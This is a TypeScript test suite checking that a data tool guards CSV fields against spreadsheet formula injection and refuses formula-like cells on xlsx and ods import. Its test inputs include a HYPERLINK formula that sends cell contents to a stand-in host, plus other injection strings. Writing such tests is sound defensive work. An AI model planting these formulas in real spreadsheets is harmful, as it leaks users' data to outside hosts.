import fc from 'fast-check';
import { printRegister, readRegister, type ReturnEvent } from '../../src/data/returns/register';
import { printRequests, readRequests } from '../../src/data/returns/ask-forces';
import { withChanges } from '../../src/data/returns/changes';
import { errorSheet } from '../../src/data/measure/set-aside';
import { readCsv } from '../../src/syntax/csv';
import { csvField, isFormula, withoutGuard } from '../../src/syntax/csv-field';
import { importFile, removeFolders, write } from '../import/import-file';
import { ods, xlsx } from '../import/workbooks';

afterAll(removeFolders);

const HOSTILE = '=HYPERLINK("http://a.example?"&A1)';
const cellsOf = (csv: string): string[] =>
  readCsv(csv.replace(/^\ufeff/, ''), 't.csv').rows.flatMap(({ cells }) => Object.values(cells));

describe('a field of CSV', () => {
  it.each([
    '=1+1',
    '+A1',
    '-A1',
    '- of which',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1+1',
    "'=1",
    '1-',
    '-',
    '2024-01',
  ])('%j is written so that no spreadsheet runs it, and read back as it was', (text) => {
    const [cell = ''] = cellsOf(`a\r\n${csvField(text)}\r\n`);
    expect(cell).not.toMatch(/^[=+\-@\t\r＝]/);
    expect(withoutGuard(cell)).toBe(text.trim() === text ? text : withoutGuard(`'${text}`));
  });
  it.each(['-4', '+4', '-4.25', '12', '-5.2%', "'tis", 'a=b', 'London'])('%j stays as it is', (text) => {
    expect([csvField(text), isFormula(text), withoutGuard(text)]).toEqual([text, false, text]);
  });
  it('never starts what a spreadsheet runs, and loses nothing, whatever the text', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^['=+\-@\t\r a1("]{0,8}$/), (text) => {
        const field = csvField(text);
        const cell = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
        return (
          withoutGuard(cell) === text && (!/^\s*[=+\-@]|^[\t\r]/.test(cell) || /^[+-]?\d+%?$/.test(cell))
        );
      }),
    );
  });
});

describe('what is typed and sent', () => {
  const event: ReturnEvent = {
    dataset: 'a',
    force: 'kent',
    state: 'queried',
    on: '2031-05-18',
    by: '@who',
    file: '-1+1.xlsx',
    sha256: '0',
    rows: '-4',
    note: HOSTILE,
  };
  it('stands guarded in the register of returns, however often it is written, and is read as it was', () => {
    const once = printRegister([event]);
    expect(cellsOf(once).slice(4)).toEqual(["'@who", "'-1+1.xlsx", '0', '-4', `'${HOSTILE}`]);
    expect(readRegister(once)).toEqual({ events: [event], wrong: [] });
    expect(printRegister(readRegister(once).events)).toBe(once);
  });
  it('stands guarded in requests, changes and sheets of errors', () => {
    const request = { dataset: 'a', on: '2031-05-18', due: '2031-06-18', from: '=A1', why: HOSTILE };
    expect(cellsOf(printRequests([request]))).toContain(`'${HOSTILE}`);
    expect(readRequests(printRequests([request])).requests).toEqual([request]);
    const change = {
      dataset: 'a',
      force: 'kent',
      row: 'r',
      column: 'c',
      old: '-4',
      new: '=A1',
      on: '2031-05-18',
    };
    expect(cellsOf(withChanges('', [{ ...change, reason: HOSTILE, agreed: '+B' }])).slice(4, 8)).toEqual([
      '-4',
      "'=A1",
      `'${HOSTILE}`,
      "'+B",
    ]);
    const sheet = errorSheet(['=Force'], [{ line: 2, cells: [HOSTILE], wrong: ['-x'] }]);
    expect(sheet).toContain(`line,what is wrong,'=Force`);
    expect(cellsOf(sheet)).toEqual(['2', "'-x", `'${HOSTILE}`]);
  });
});

describe.each([
  ['xlsx', xlsx],
  ['ods', ods],
] as const)('a table that is imported from %s', (kind, make) => {
  const HEADER = [
    'Financial Year',
    'Financial Quarter',
    'Force Name',
    'Offence Description',
    'Offence Group',
    'Offence Subgroup',
    'Offence Code',
    'Number of Offences',
  ];
  const withText = (text: string) =>
    importFile(
      write(
        `table.${kind}`,
        make([{ name: '2021_22', rows: [HEADER, ['2021/22', 3, 'Kent', text, 'b', 'c', '4.1', 7]] }]),
      ),
    );
  it.each([HOSTILE, '@SUM(1)', '+cmd', '- of which', ' =1+1'])(
    'is refused for %j, with its cell',
    async (text) => {
      const { said } = await withText(text);
      expect(said.join('\n')).toMatch(/cell D2: "[^\n]+" begins as a formula does/);
    },
  );
  it('is read with a lone sign, and with one inside a word', async () => {
    expect((await withText('-')).said).toEqual([]);
    expect((await withText('a - b = c')).said).toEqual([]);
  });
});
